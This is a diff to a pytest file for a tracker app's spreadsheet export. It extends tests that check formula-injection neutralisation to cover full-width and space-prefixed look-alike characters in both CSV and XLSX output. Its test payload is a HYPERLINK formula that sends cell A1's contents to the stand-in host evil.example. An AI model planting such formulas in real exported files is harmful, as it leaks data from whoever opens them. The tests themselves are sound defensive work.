@@ -19,15 +19,32 @@ from tracker.extensions import db
 from tracker.models import Action
 
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+# Look-alikes a spreadsheet may still take for a formula: full-width and small forms (Excel
+# reads "＝1+1" as "=1+1"), and a starter behind spaces that an import may trim.
+LOOK_ALIKES = ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", " =", "  @", "\u3000+", "\n-"]
 PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1,"Click")'
 
 
-@pytest.mark.parametrize("prefix", PREFIXES)
+@pytest.mark.parametrize("prefix", PREFIXES + LOOK_ALIKES)
 def test_neutralise_prefixes_formula_text(prefix):
     assert neutralise(prefix + PAYLOAD) == "'" + prefix + PAYLOAD
 
 
-@pytest.mark.parametrize("value", ["Region A", "a = b", "score 3-4", "", None, 3, date(2026, 4, 1)])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Region A",
+        "a = b",
+        "score 3-4",
+        "a \uff1d b",
+        "  indented",
+        " ",
+        "",
+        None,
+        3,
+        date(2026, 4, 1),
+    ],
+)
 def test_neutralise_leaves_other_values_alone(value):
     assert neutralise(value) == value
 
@@ -55,7 +72,7 @@ FIELDS = {
 }
 
 
-@pytest.mark.parametrize("prefix", PREFIXES)
+@pytest.mark.parametrize("prefix", PREFIXES + LOOK_ALIKES)
 def test_exports_neutralise_formulas_in_both_formats(client, login, planted, prefix):
     text = prefix + PAYLOAD
     planted(text)
@@ -91,3 +108,11 @@ def test_characters_a_workbook_cannot_hold_do_not_stop_the_export(client, login,
     response = download(client, dataset="responses", format="xlsx")
     assert response.status_code == 200
     assert xlsx_dicts(response)[0]["Narrative"] == "Pasted from elsewhere\nsecond line"
+
+
+def test_look_alikes_are_neutralised_by_both_writers():
+    table = Table("Look-alikes", ["\uff1dSUM(A1)"], [["\uff20cmd"], [" =1+2"], ["\uff0d1"]])
+    expected = ["'\uff1dSUM(A1)", "'\uff20cmd", "' =1+2", "'\uff0d1"]
+    assert to_csv(table).decode("utf-8-sig").splitlines() == expected
+    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
+    assert [row[0].value for row in sheet.iter_rows()] == expected
